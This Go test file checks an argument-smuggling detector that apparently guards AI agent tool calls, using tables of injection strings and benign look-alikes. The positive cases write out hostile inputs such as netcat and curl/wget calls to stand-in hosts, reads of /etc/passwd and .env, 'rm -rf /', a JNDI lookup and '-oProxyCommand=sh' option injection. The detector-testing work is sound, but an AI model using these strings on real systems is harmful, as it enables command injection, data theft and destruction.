package smuggle_test

import (
	"bufio"
	"encoding/json"
	"os"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/staso-go/staso/guard/local/internal/detect"
	"github.com/staso-go/staso/guard/local/internal/smuggle"
)

// found are the codes of what is found in a value.
func found(t testing.TB, kind detect.Kind, text string, views ...detect.View) []string {
	t.Helper()
	detector, err := smuggle.New(nil)
	require.NoError(t, err)
	var codes []string
	call := detect.Call{Args: []detect.Arg{{Field: "x", Kinds: kind, Text: text, Views: views}}}
	detector.Detect(&call, func(f detect.Finding) { codes = append(codes, f.Code) })
	return codes
}

func TestHost(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"db1; cat /etc/hosts", "h|nc x 1", "h && reboot", "h & dir", "`uname -a`", "$(hostname)", "h\nls", "h%0als", "h%3Bls", `h\nls`, "'; ls #", "<!--#exec cmd=\"ls\"-->", "{{7*7}}", "${IFS}", "<?php x ?>",
		"-oProxyCommand=sh", "--help", "type C:\\x", "whoami", "which nc", "/bin/sh -i", "net user", "() { :;}; ls", "a.example.com > /tmp/x", "http://h/$(id)", "http://h/`id`",
	} {
		assert.NotEmpty(t, found(t, detect.Host, text), text)
	}
	for _, text := range []string{
		"localhost", "10.1.2.3", "10.1.2.3:8080", "[::1]:443", "fe80::1%eth0", "db-1.prod.example.com", "my_host", "*.example.com", "10.0.0.0/8", "a.example,b.example", "user@host", "https://example.com/a?b=c&d=e;f#g",
		"münchen.example", `\\fileserver\share`, "host=db port=5432", "", "uname.example.com", "redis", "mysql", "smtp://mail.example:25",
	} {
		assert.Empty(t, found(t, detect.Host, text), text)
	}
}

func TestValue(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"x; rm -rf /", "x;id", "x | nc 10.0.0.1 4444", "x && curl http://e.example", "$(cat /etc/passwd)", "`id`", "img`whoami`.png", "x\nwget http://e.example/a", "x%0Awget http://e.example", "x || /bin/sh", "${jndi:ldap://e.example/a}",
		"{{ config }}", "{{''.__class__}}", "<?php system('id') ?>", "x & ping -c 1 e.example &", "a; cat .env", "; type C:\\x", "x;ls;",
	} {
		assert.NotEmpty(t, found(t, detect.Value, text), text)
	}
	for _, text := range []string{
		"O'Brien & Sons", "R&D; marketing", "price > 100", "AT&T", "Tom & Jerry; more to come", "a|b|c", "x; find out more", "50% off; sort by price", "{{name}}", "${name}", "Smith & Wesson | Co.", "C++ & C#", "$5", "<b>x</b>", "fix `ls` crash in parser",
		"who & what", "#W2378156", "credit_card_9659780", "2024-05-15", "Q&A", "key=value;key2=value2", "black & decker; kill switch", "first; second", "read; write; execute", "salt & pepper | free range", "A & less", "100%", "test; test", "*.go", "feature/x-y",
	} {
		assert.Empty(t, found(t, detect.Value, text), text)
	}
}

func TestOptions(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"-oProxyCommand=sh x", "--upload-pack=touch x", "--checkpoint-action=exec=sh", "-exec", "--use-compress-program=sh", "--open-files-in-pager=sh", "--rsh=sh x"} {
		assert.NotEmpty(t, found(t, detect.Argv, text), text)
		assert.NotEmpty(t, found(t, detect.Path, text), text)
	}
	assert.NotEmpty(t, found(t, detect.Path, "-rf"))
	for _, text := range []string{"-l", "--verbose", "-n", "--oneline", "-", "--name-only", "-rf"} {
		assert.Empty(t, found(t, detect.Argv, text), text)
	}
	for _, text := range []string{"-", "a-b", "./-x", "src/main.go", "My Documents/a & b.txt", "C:\\Users\\x"} {
		assert.Empty(t, found(t, detect.Path, text), text)
	}
}

func TestViews(t *testing.T) {
	t.Parallel()
	assert.NotEmpty(t, found(t, detect.Value, "x", detect.View{Text: "x;id", Via: "percent"}))
	assert.Empty(t, found(t, detect.Text, "x;id"), "prose is not looked at")
	assert.Empty(t, found(t, detect.Value|detect.Shell, "x;id"), "a command is judged as one")
	_, err := smuggle.New(detect.Params(`{"x":1}`))
	assert.Error(t, err)
}

// TestCorpus counts what is found of labelled values that may lie beside the
// repository.
func TestCorpus(t *testing.T) {
	file, err := os.Open("../../../../../shared/guard_corpus/argument_injection.jsonl")
	if err != nil {
		t.Skip("there are no labelled values beside the repository")
	}
	defer file.Close()
	total, hits := map[string]int{}, map[string]int{}
	for scanner := bufio.NewScanner(file); scanner.Scan(); {
		var row struct {
			Label string
			Input struct{ Host string } `json:"tool_input"`
		}
		require.NoError(t, json.Unmarshal(scanner.Bytes(), &row))
		total[row.Label]++
		if len(found(t, detect.Host, row.Input.Host)) > 0 {
			hits[row.Label]++
		} else if row.Label == "dangerous" {
			t.Logf("missed %q", row.Input.Host)
		}
	}
	t.Logf("found %v of %v", hits, total)
	assert.Zero(t, hits["safe"])
	assert.Greater(t, hits["dangerous"]*100, total["dangerous"]*90)
}

func FuzzDetect(f *testing.F) {
	for _, seed := range []string{"x;id", "-oProxyCommand=x", "%0a%", "{{a}}", "`", "$(", "\\n"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, kind := range []detect.Kind{detect.Host, detect.Argv, detect.Value, detect.Path} {
			found(t, kind, text)
		}
	})
}

func BenchmarkDetect(b *testing.B) {
	detector, _ := smuggle.New(nil)
	call := detect.Call{Args: []detect.Arg{{Kinds: detect.Value, Text: "credit_card_9659780"}, {Kinds: detect.Host, Text: "db-1.example.com"}, {Kinds: detect.Path, Text: "src/main.go"}}}
	b.ReportAllocs()
	for b.Loop() {
		detector.Detect(&call, func(detect.Finding) {})
	}
}
